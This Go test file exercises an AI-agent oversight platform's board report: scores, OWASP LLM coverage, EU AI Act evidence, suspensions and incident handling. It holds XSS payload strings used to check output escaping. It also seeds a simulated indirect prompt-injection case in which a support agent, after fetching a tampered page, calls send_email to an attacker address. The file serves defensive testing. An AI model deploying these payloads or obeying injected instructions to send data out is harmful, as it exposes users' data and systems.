package api_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/probity-dev/probity/internal/api"
	"github.com/probity-dev/probity/internal/apptest"
	"github.com/probity-dev/probity/internal/report"
	"github.com/probity-dev/probity/internal/testbed"
	"github.com/probity-dev/probity/internal/testbed/tbtest"
	"github.com/probity-dev/probity/ledger"
)

// Hostile inventory text: a name and an owner that would run script or
// form a link if a report passed them through.
const (
	hostileName  = `<script>alert("name")</script>`
	hostileOwner = `<img src=x onerror=alert(1)> [click](https://evil.example/) www.evil.example`
	hostileCause = `investigating <b>injected</b> refunds`
)

// fleet is a seeded org: agents registered, evals run against the
// reference agents, records ingested, an agent suspended and a model
// updated. The counts the test expects are gathered through the API, not
// from the report.
type fleet struct {
	*fixture
	ev      string
	runs    map[string][]string // agent → completed run ids
	records int                 // records ingested for support-bot in the period
	// afterEvals is a time after every eval result and before every record.
	afterEvals time.Time
}

func seedFleet(t *testing.T, opts ...apptest.Option) *fleet {
	runs := api.OnEvalRuns(t)
	base := tbtest.Start(t, testbed.Options{ModelVersion: "2026-01"})
	f := &fleet{fixture: newFixture(t, opts...), runs: map[string][]string{}}
	f.ev = f.must(201, "POST", "/v1/api-keys", f.admin, map[string]any{"scopes": []string{"eval"}})["key"].(string)
	for _, a := range []map[string]any{
		{"id": "steady-bot", "owner": "platform-team", "riskTier": "high",
			"access": map[string]any{"production": true, "dataClasses": []string{"pii"}, "actions": []string{"send_email"}}},
		{"id": "gullible-bot", "owner": "cx-team", "riskTier": "medium", "access": map[string]any{"systems": []string{"crm"}}},
		{"id": "xss-bot", "name": hostileName, "owner": hostileOwner},
	} {
		model := strings.TrimSuffix(a["id"].(string), "-bot")
		if model == "xss" {
			model = "steady"
		}
		a["model"] = map[string]string{"provider": "testbed", "name": model, "version": "2026-01"}
		a["endpoint"] = map[string]string{"kind": "openai", "url": base + "/v1", "model": model}
		f.must(201, "POST", "/v1/agents", f.admin, a)
	}
	var suites struct{ Items []struct{ ID string } }
	json.Unmarshal(f.must200raw("GET", "/v1/suites?limit=100", f.ev), &suites)
	var all []string
	for _, s := range suites.Items {
		all = append(all, s.ID)
	}
	run := func(agent string, suites []string) {
		var queued runAnswer
		r := f.do("POST", "/v1/evals", f.ev, map[string]any{"agentId": agent, "suites": suites})
		if r.status != 202 || json.Unmarshal(r.body, &queued) != nil {
			t.Fatalf("POST /v1/evals: %d %s", r.status, r.body)
		}
		if got := waitRun(t, runs, queued.ID); got != "completed" {
			t.Fatalf("run %s of %s ended %s", queued.ID, agent, got)
		}
		f.runs[agent] = append(f.runs[agent], queued.ID)
	}
	run("steady-bot", all)
	run("gullible-bot", []string{"injection-direct", "injection-indirect"})
	f.afterEvals = time.Now().UTC()

	// support-bot: a pact, and a few records now, one of them over its
	// refund limit.
	f.postPact(201, f.admin, yamlType, supportAgentPact)
	ev := func(id string, n int, typ, extra string) string {
		return fmt.Sprintf(`{"id":%q,"agentId":"support-bot","sessionId":"s-rep","time":%q,"type":%q,%s}`,
			id, f.afterEvals.Add(time.Duration(n+1)*time.Millisecond).Format(time.RFC3339Nano), typ, extra)
	}
	ingestViolations(f.client, f.ingest, batch(
		ev("rep-1", 0, "user_input", `"content":"refund order AB-123456"`),
		ev("rep-2", 1, "tool_call", `"tool":{"name":"lookup_order","arguments":{"order_id":"AB-123456"}}`),
		ev("rep-3", 2, "tool_call", `"tool":{"name":"issue_refund","arguments":{"amount":500}}`),
		ev("rep-4", 3, "model_output", `"content":"Your refund is on its way."`),
	))
	f.records = 4

	f.must(200, "POST", "/v1/agents/gullible-bot/suspend", f.admin, map[string]any{"reason": hostileCause})
	// A model update with no endpoint to baseline it against.
	f.must(200, "PATCH", "/v1/agents/support-bot", f.admin, map[string]any{"model": map[string]string{"version": "2"}})
	return f
}

func (f *fixture) report(query string) report.Report {
	f.t.Helper()
	var rep report.Report
	body := f.must200raw("GET", "/v1/reports/board?format=json"+query, f.read)
	if err := json.Unmarshal(body, &rep); err != nil {
		f.t.Fatalf("report JSON: %v\n%s", err, body)
	}
	return rep
}

// TestBoardReport checks the report of a seeded fleet against figures the
// test gathers itself through the API: scores, badges and OWASP posture,
// graded cases, records, violations, suspensions and the ledger.
func TestBoardReport(t *testing.T) { stores(t, testBoardReport) }

func testBoardReport(t *testing.T, opts ...apptest.Option) {
	f := seedFleet(t, opts...)
	rep := f.report("")

	if rep.Org != "default" || rep.Period.Days != 30 || !rep.Period.To.After(rep.Period.From) {
		t.Errorf("header: org %q, period %+v", rep.Org, rep.Period)
	}
	agents := map[string]report.Agent{}
	var ids []string
	for _, a := range rep.Agents {
		agents[a.ID] = a
		ids = append(ids, a.ID)
	}
	if want := []string{"gullible-bot", "steady-bot", "support-bot", "xss-bot"}; !slices.Equal(slices.Sorted(slices.Values(ids)), want) {
		t.Fatalf("agents: got %v, want %v (and never the other org's)", ids, want)
	}
	if rep.Agents[0].ID != "gullible-bot" {
		t.Errorf("first agent: got %s, want the suspended gullible-bot", rep.Agents[0].ID)
	}

	// Each agent's score is the one the score route computes.
	owaspCounts := map[string][3]int{}
	for _, id := range ids {
		var sc scoreAnswer
		json.Unmarshal(f.must200raw("GET", "/v1/agents/"+id+"/score", f.read), &sc)
		a := agents[id]
		if d := a.Composite - sc.CompositeScore; d < -1 || d > 1 || a.Tier != sc.CertificationTier || !slices.Equal(a.Badges, sc.SecurityPosture.Badges) {
			t.Errorf("%s: got composite %d tier %s badges %v, the score route says %d %s %v", id, a.Composite, a.Tier, a.Badges,
				sc.CompositeScore, sc.CertificationTier, sc.SecurityPosture.Badges)
		}
		for item, cov := range sc.SecurityPosture.OWASP {
			c := owaspCounts[item]
			c[slices.Index([]string{"tested", "monitored", "uncovered"}, cov)]++
			owaspCounts[item] = c
		}
	}
	kinds := func(id string) []string {
		var out []string
		for _, r := range agents[id].Risks {
			out = append(out, r.Kind)
		}
		return out
	}
	for id, want := range map[string][]string{
		"gullible-bot": {report.RiskSuspended, report.RiskNoPact},
		"support-bot":  {report.RiskUnassessed, report.RiskViolations, report.RiskIncompleteInfo, report.RiskStaleEvidence},
		"xss-bot":      {report.RiskStaleEvidence, report.RiskIncompleteInfo},
	} {
		for _, k := range want {
			if !slices.Contains(kinds(id), k) {
				t.Errorf("%s: risks %v lack %s", id, agents[id].Risks, k)
			}
		}
	}
	if k := kinds("steady-bot"); slices.Contains(k, report.RiskStaleEvidence) || slices.Contains(k, report.RiskSuspended) {
		t.Errorf("steady-bot, freshly baselined and active: risks %v", agents["steady-bot"].Risks)
	}
	if a := agents["gullible-bot"]; a.Status != "suspended" || a.StatusReason != hostileCause {
		t.Errorf("gullible-bot: status %q reason %q", a.Status, a.StatusReason)
	}

	// Evidence of the period, counted from the runs' results.
	suiteOWASP := map[string][]string{}
	var suites struct {
		Items []struct {
			ID         string
			Dimensions []string
			OWASP      []string
		}
	}
	json.Unmarshal(f.must200raw("GET", "/v1/suites?limit=100", f.ev), &suites)
	injection := map[string]bool{}
	for _, s := range suites.Items {
		suiteOWASP[s.ID] = s.OWASP
		injection[s.ID] = slices.Contains(s.Dimensions, "security") && slices.Contains(s.OWASP, "LLM01")
	}
	type tally struct{ cases, failed int }
	perOWASP := map[string]tally{}
	var graded, passed, injCases, injSucceeded int
	casesOf := map[string]int{}
	for agent, runIDs := range f.runs {
		for _, id := range runIDs {
			for cur := ""; ; {
				var page struct {
					Items []struct {
						Suite, Status string
					}
					NextCursor string
				}
				json.Unmarshal(f.must200raw("GET", "/v1/evals/"+id+"/results?limit=100&cursor="+url.QueryEscape(cur), f.ev), &page)
				for _, r := range page.Items {
					if r.Status != "passed" && r.Status != "failed" {
						continue
					}
					graded++
					casesOf[agent]++
					ok := r.Status == "passed"
					if ok {
						passed++
					}
					for _, o := range suiteOWASP[r.Suite] {
						t := perOWASP[o]
						t.cases++
						if !ok {
							t.failed++
						}
						perOWASP[o] = t
					}
					if injection[r.Suite] {
						injCases++
						if !ok {
							injSucceeded++
						}
					}
				}
				if cur = page.NextCursor; cur == "" {
					break
				}
			}
		}
	}
	if injSucceeded == 0 || injCases < 50 {
		t.Fatalf("seed: %d injection cases, %d succeeded; want gullible to fall for some", injCases, injSucceeded)
	}
	for _, id := range ids {
		if got, want := agents[id].EvalCases, casesOf[id]; got != want {
			t.Errorf("%s: got %d graded cases, want %d", id, got, want)
		}
	}
	if got := len(rep.OWASP); got != 10 {
		t.Fatalf("got %d OWASP items, want 10", got)
	}
	was := map[string]string{"LLM01": "LLM01:2023", "LLM02": "LLM06:2023", "LLM03": "LLM05:2023", "LLM04": "LLM03:2023",
		"LLM05": "LLM02:2023", "LLM06": "LLM08:2023", "LLM09": "LLM09:2023", "LLM10": "LLM04:2023"}
	for i, it := range rep.OWASP {
		id := fmt.Sprintf("LLM%02d", i+1)
		c := owaspCounts[id]
		if it.ID != id+":2025" || it.Tested != c[0] || it.Monitored != c[1] || it.Uncovered != c[2] {
			t.Errorf("%s: got %s tested/monitored/uncovered %d/%d/%d, the scores say %v", id, it.ID, it.Tested, it.Monitored, it.Uncovered, c)
		}
		if want := perOWASP[id]; it.EvalCases != want.cases || it.EvalFailed != want.failed {
			t.Errorf("%s: got %d cases, %d failed; the results say %d, %d", id, it.EvalCases, it.EvalFailed, want.cases, want.failed)
		}
		if w, ok := was[id]; ok != (len(it.Was) == 1) || ok && !strings.HasPrefix(it.Was[0], w+" ") {
			t.Errorf("%s: 2023 numbering %v, want %q", id, it.Was, w)
		}
		// Two agents ran no eval and have no pact monitoring anything: no
		// item is covered on every agent.
		if it.Status != "uncovered" || !slices.Contains(it.UncoveredBy, "xss-bot") {
			t.Errorf("%s: status %s uncovered by %v, want uncovered (xss-bot among them)", id, it.Status, it.UncoveredBy)
		}
	}
	if it := rep.OWASP[0]; it.Tested != 2 || it.Name != "Prompt Injection" {
		t.Errorf("LLM01: %+v, want tested on steady-bot and gullible-bot", it)
	}

	// The 30-day programme.
	items := map[string]report.Coverage{}
	for _, c := range rep.Programme {
		items[c.ID] = c
	}
	for _, want := range []struct {
		id, status string
		met, total int
		lacking    []string
	}{
		{report.ItemInventory, "partial", 2, 4, []string{"support-bot", "xss-bot"}},
		{report.ItemBaselines, "partial", 1, 4, []string{"gullible-bot", "support-bot", "xss-bot"}},
		{report.ItemMonitor, "partial", 1, 4, []string{"gullible-bot", "steady-bot", "xss-bot"}},
		{report.ItemModels, "missing", 0, 1, []string{"support-bot"}},
	} {
		c := items[want.id]
		if c.Status != want.status || c.Met != want.met || c.Total != want.total || !slices.Equal(c.Lacking, want.lacking) {
			t.Errorf("programme %s: got %s %d of %d lacking %v, want %s %d of %d lacking %v", want.id, c.Status, c.Met, c.Total, c.Lacking,
				want.status, want.met, want.total, want.lacking)
		}
	}
	if c := items[report.ItemIncidents]; rep.Incidents.Tracked == (c.Status == "missing" && c.Total == 0) {
		t.Errorf("incident criteria %+v with incidents tracked %v", c, rep.Incidents.Tracked)
	}

	// EU AI Act: the evidence names the counts gathered above.
	var vl struct{ Items []violationAnswer }
	json.Unmarshal(f.must200raw("GET", "/v1/violations?limit=1000", f.read), &vl)
	if got := agents["support-bot"].Violations; got != len(vl.Items) || got == 0 {
		t.Errorf("support-bot: got %d violations, the violations route lists %d", got, len(vl.Items))
	}
	var keys struct{ Ledger struct{ VerifierKey string } }
	json.Unmarshal(f.must200raw("GET", "/v1/keys", f.read), &keys)
	cp, err := ledger.OpenCheckpoint([]byte(rep.Ledger.Checkpoint), keys.Ledger.VerifierKey)
	if err != nil || cp.Size != rep.Ledger.Size || rep.Ledger.Size < int64(f.records) {
		t.Errorf("ledger: %+v, checkpoint %+v %v", rep.Ledger, cp, err)
	}
	controls := map[string]report.Control{}
	for _, c := range rep.EUAIAct {
		controls[c.Article] = c
	}
	for art, want := range map[string][]string{
		"Article 9":  {fmt.Sprintf("%d cases graded, %.1f%% passed, on 2 of 4 agents", graded, 100*float64(passed)/float64(graded))},
		"Article 12": {fmt.Sprintf("%d entries", rep.Ledger.Size), fmt.Sprintf("%d behavioral records in the period from 1 of 4 agents", f.records)},
		"Article 13": {"1 of 4 agents are bound to a pact (1 pact stored)"},
		"Article 14": {"1 suspension and 0 reactivations in the period", "1 of 4 agents suspended", "3 of 4 agents have an accountable owner"},
		"Article 15": {fmt.Sprintf("%d prompt-injection cases in the period, %d succeeded", injCases, injSucceeded)},
	} {
		c, ok := controls[art]
		if !ok {
			t.Errorf("no %s", art)
			continue
		}
		all := strings.Join(c.Evidence, "\n")
		for _, w := range want {
			if !strings.Contains(all, w) {
				t.Errorf("%s evidence lacks %q:\n%s", art, w, all)
			}
		}
		if c.Status != "partial" {
			t.Errorf("%s: status %s, want partial (the fleet has gaps): gaps %v", art, c.Status, c.Gaps)
		}
	}

	// Every gap has an owner: the agent's, or "unassigned".
	owners := map[string]string{"steady-bot": "platform-team", "gullible-bot": "cx-team", "support-bot": "unassigned", "xss-bot": hostileOwner}
	for _, g := range rep.Gaps {
		if g.AgentID != "" && g.Owner != owners[g.AgentID] {
			t.Errorf("gap %+v: owner %q, want %q", g, g.Owner, owners[g.AgentID])
		}
	}
	if !slices.ContainsFunc(rep.Gaps, func(g report.Gap) bool { return g.AgentID == "gullible-bot" && g.Priority == 1 }) {
		t.Errorf("no first-priority gap for the suspended gullible-bot: %+v", rep.Gaps)
	}

	// A period that ends before the seeding knows none of it.
	old := f.report("&to=" + url.QueryEscape(rep.Period.From.Format(time.RFC3339Nano)) + "&days=1")
	if len(old.Agents) != 0 || old.Summary.Agents != 0 {
		t.Errorf("a month ago, before any agent was registered: %+v", old.Agents)
	}
	// One that starts after the evals sees the records only.
	recent := f.report("&from=" + url.QueryEscape(f.afterEvals.Format(time.RFC3339Nano)))
	for _, a := range recent.Agents {
		records := map[bool]int{true: f.records}[a.ID == "support-bot"]
		if a.EvalCases != 0 || a.Records != records {
			t.Errorf("%s since the evals: %d eval cases, %d records; want 0 and %d", a.ID, a.EvalCases, a.Records, records)
		}
	}

	// Another org sees only its own agent.
	var other report.Report
	json.Unmarshal(f.must200raw("GET", "/v1/reports/board", f.otherAdmin), &other)
	if len(other.Agents) != 1 || other.Agents[0].ID != "other-bot" {
		t.Errorf("the other org's report: %+v", other.Agents)
	}
}

// TestBoardReportFormats: the HTML and Markdown reports escape hostile
// inventory text, the HTML is self-contained and forbids scripts, and the
// JSON is valid and stable.
func TestBoardReportFormats(t *testing.T) {
	f := newFixture(t)
	f.must(201, "POST", "/v1/agents", f.admin, map[string]any{"id": "xss-bot", "name": hostileName, "owner": hostileOwner})
	f.must(200, "POST", "/v1/agents/xss-bot/suspend", f.admin, map[string]any{"reason": hostileCause})

	r := f.do("GET", "/v1/reports/board?format=html", f.read, nil)
	html := string(r.body)
	if r.status != 200 || r.header.Get("Content-Type") != "text/html; charset=utf-8" {
		t.Fatalf("html: %d %s", r.status, r.header.Get("Content-Type"))
	}
	if csp := r.header.Get("Content-Security-Policy"); !strings.Contains(csp, "default-src 'none'") || strings.Contains(csp, "script-src") {
		t.Errorf("Content-Security-Policy %q", csp)
	}
	for _, bad := range []string{"<script", "<img", "<b>injected", "http://", "src=\"http", "href="} {
		if strings.Contains(html, bad) {
			t.Errorf("html holds %q", bad)
		}
	}
	for _, want := range []string{"&lt;script&gt;alert(&#34;name&#34;)&lt;/script&gt;", "&lt;img src=x onerror=alert(1)&gt;", "&lt;b&gt;injected&lt;/b&gt;",
		"Article 12", "LLM01:2025", "LLM01:2023 Prompt Injection", "@media print"} {
		if !strings.Contains(html, want) {
			t.Errorf("html lacks %q", want)
		}
	}

	r = f.do("GET", "/v1/reports/board?format=md", f.read, nil)
	md := string(r.body)
	if r.status != 200 || !strings.HasPrefix(r.header.Get("Content-Type"), "text/markdown") {
		t.Fatalf("md: %d %s", r.status, r.header.Get("Content-Type"))
	}
	for _, bad := range []string{"<", "[", "]"} {
		if regexp.MustCompile(`(^|[^\\])` + regexp.QuoteMeta(bad) + `[a-z/]`).MatchString(md) {
			t.Errorf("markdown holds an unescaped %q", bad)
		}
	}
	for _, bad := range []string{"https://evil", "www.evil"} {
		if strings.Contains(md, bad) {
			t.Errorf("markdown holds %q, which autolinks", bad)
		}
	}
	for _, want := range []string{`\<script\>alert("name")\</script\>`, `\<img src=x onerror=alert(1)\> \[click\](https\://evil.example/) www\.evil.example`,
		"## EU AI Act", "## OWASP Top 10 for LLM applications (2025)", "## Remaining gaps"} {
		if !strings.Contains(md, want) {
			t.Errorf("markdown lacks %q", want)
		}
	}

	r = f.do("GET", "/v1/reports/board", f.read, nil)
	if r.status != 200 || r.header.Get("Content-Type") != "application/json" || !json.Valid(r.body) {
		t.Fatalf("json: %d %s", r.status, r.header.Get("Content-Type"))
	}
	var rep report.Report
	if err := json.Unmarshal(r.body, &rep); err != nil {
		t.Fatal(err)
	}
	var again bytes.Buffer
	if err := report.JSON(&again, rep); err != nil || again.String() != string(r.body) {
		t.Errorf("the JSON does not round-trip to the same bytes:\n%s\n---\n%s", r.body, again.String())
	}
	if bytes.Contains(r.body, []byte("<script")) {
		t.Errorf("json holds a raw <script")
	}
}

// TestBoardReportBadInput: a bad period or format is a 400 naming the
// parameter.
func TestBoardReportBadInput(t *testing.T) {
	f := newFixture(t)
	before := f.snapshot()
	future := url.QueryEscape(time.Now().Add(time.Hour).UTC().Format(time.RFC3339))
	for _, tc := range []struct{ query, field string }{
		{"format=pdf", "format"},
		{"format=md&format=html", "format"},
		{"days=0", "days"},
		{"days=91", "days"},
		{"days=week", "days"},
		{"from=yesterday", "from"},
		{"to=2026-13-01T00:00:00Z", "to"},
		{"to=" + future, "to"},
		{"from=2026-01-02T00:00:00Z&to=2026-01-01T00:00:00Z", "from"},
		{"from=2025-01-01T00:00:00Z&to=2026-01-01T00:00:00Z", "from"},
		{"from=2026-01-01T00:00:00Z&days=3", "days"},
		{"limit=10", "limit"},
		{"agent=x", "agent"},
	} {
		r := f.do("GET", "/v1/reports/board?"+tc.query, f.read, nil)
		if r.status != 400 {
			t.Errorf("?%s: got %d, want 400: %s", tc.query, r.status, r.body)
			continue
		}
		if _, field := r.errorOf(t); field != tc.field {
			t.Errorf("?%s: got field %q, want %q", tc.query, field, tc.field)
		}
	}
	if after := f.snapshot(); after != before {
		t.Errorf("bad requests changed state")
	}
}

// TestBoardReportIncidents: a confirmed injection-influenced action opens
// a critical incident that suspends the agent; reactivating it with a root
// cause resolves the incident. The report's incident history and oversight
// evidence say so, with the figures the incident routes give.
func TestBoardReportIncidents(t *testing.T) { stores(t, testBoardReportIncidents) }

func testBoardReportIncidents(t *testing.T, opts ...apptest.Option) {
	f := newFixture(t, opts...)
	f.postPact(201, f.admin, yamlType, supportAgentPact)
	now := time.Now().UTC().Add(-time.Minute)
	ev := func(id string, n int, typ, extra string) string {
		return fmt.Sprintf(`{"id":%q,"agentId":"support-bot","sessionId":"s-inj","time":%q,"type":%q,%s}`,
			id, now.Add(time.Duration(n)*time.Second).Format(time.RFC3339Nano), typ, extra)
	}
	got := ingestViolations(f.client, f.ingest, batch(
		ev("i-1", 0, "user_input", `"content":"What are the shipping times on https://shop.example/faq ?"`),
		ev("i-2", 1, "tool_call", `"tool":{"name":"fetch_url","arguments":{"url":"https://shop.example/faq"}}`),
		ev("i-3", 2, "tool_result", `"tool":{"name":"fetch_url","result":`+injectedPage+`}`),
		ev("i-4", 3, "tool_call", `"tool":{"name":"send_email","arguments":{"to":"exfil@attacker-mail.example"}}`),
	))
	if !slices.ContainsFunc(got, func(v violationAnswer) bool { return v.Confirmed }) {
		t.Fatalf("seed: no confirmed injection among %v", brief(got))
	}

	// Incidents are evaluated off the request path: wait for the one the
	// confirmed action opens.
	type incidentAnswer struct {
		ID, AgentID, Rule, Severity, Status, RootCause string
		OpenedAt                                       time.Time
		ResolvedAt                                     *time.Time
	}
	incidents := func() []incidentAnswer {
		var l struct{ Items []incidentAnswer }
		json.Unmarshal(f.must200raw("GET", "/v1/incidents?agent=support-bot", f.read), &l)
		return l.Items
	}
	tick := time.NewTicker(20 * time.Millisecond)
	defer tick.Stop()
	deadline := time.After(30 * time.Second)
	var opened []incidentAnswer
	for len(opened) == 0 {
		select {
		case <-tick.C:
			opened = incidents()
		case <-deadline:
			t.Fatal("no incident opened for the confirmed injection within 30s")
		}
	}
	inc := opened[0]
	if inc.Severity != "critical" {
		t.Fatalf("incident %+v, want a critical one", inc)
	}
	var agent struct{ Status string }
	json.Unmarshal(f.must200raw("GET", "/v1/agents/support-bot", f.read), &agent)
	before := f.report("")
	if !before.Incidents.Tracked || before.Incidents.Opened.Critical != 1 || before.Incidents.Open.Critical != 1 ||
		!slices.ContainsFunc(before.Incidents.Items, func(i report.Incident) bool { return i.ID == inc.ID && i.Status == "open" }) {
		t.Errorf("open incident in the report: %+v", before.Incidents)
	}
	if a := before.Agents[0]; a.ID != "support-bot" || a.OpenIncidents.Critical != 1 || a.Status != agent.Status {
		t.Errorf("first agent: %+v, want support-bot with its open critical incident, status %s", a, agent.Status)
	}
	if !slices.ContainsFunc(before.Gaps, func(g report.Gap) bool { return g.AgentID == "support-bot" && g.Area == "incidents" && g.Priority == 1 }) {
		t.Errorf("no first-priority incident gap: %+v", before.Gaps)
	}
	items := map[string]report.Coverage{}
	for _, c := range before.Programme {
		items[c.ID] = c
	}
	if c := items[report.ItemIncidents]; c.Status != "met" || c.Total == 0 || c.Met != c.Total {
		t.Errorf("incident criteria with the default rules: %+v", c)
	}

	// Reactivating with a root cause resolves what suspended it.
	const cause = "the FAQ page was compromised; fetch_url now strips instructions"
	if agent.Status == "suspended" {
		f.must(200, "POST", "/v1/agents/support-bot/reactivate", f.admin, map[string]any{"rootCause": cause})
	} else {
		f.must(200, "POST", "/v1/incidents/"+inc.ID+"/resolve", f.admin, map[string]any{"rootCause": cause})
	}
	var resolved incidentAnswer
	json.Unmarshal(f.must200raw("GET", "/v1/incidents/"+inc.ID, f.read), &resolved)
	if resolved.Status != "resolved" || resolved.ResolvedAt == nil {
		t.Fatalf("incident after reactivation: %+v", resolved)
	}
	after := f.report("")
	h := after.Incidents
	ttr := resolved.ResolvedAt.Sub(resolved.OpenedAt)
	if h.Resolved != 1 || h.WithRootCause != 1 || h.Open.Critical != 0 || h.MeanTimeToResolve == nil ||
		h.MeanTimeToResolve.Seconds != float64(int64(ttr.Seconds()+0.5)) {
		t.Errorf("resolved incident in the report: %+v (took %s)", h, ttr)
	}
	if i := slices.IndexFunc(h.Items, func(i report.Incident) bool { return i.ID == inc.ID }); i < 0 || h.Items[i].RootCause != cause {
		t.Errorf("the incident's root cause is not in the report: %+v", h.Items)
	}
	var art9 report.Control
	for _, c := range after.EUAIAct {
		if c.Article == "Article 9" {
			art9 = c
		}
	}
	if !strings.Contains(strings.Join(art9.Evidence, "\n"), "1 opened in the period, 1 resolved (1 with a recorded root cause)") {
		t.Errorf("Article 9 evidence: %q", art9.Evidence)
	}
}
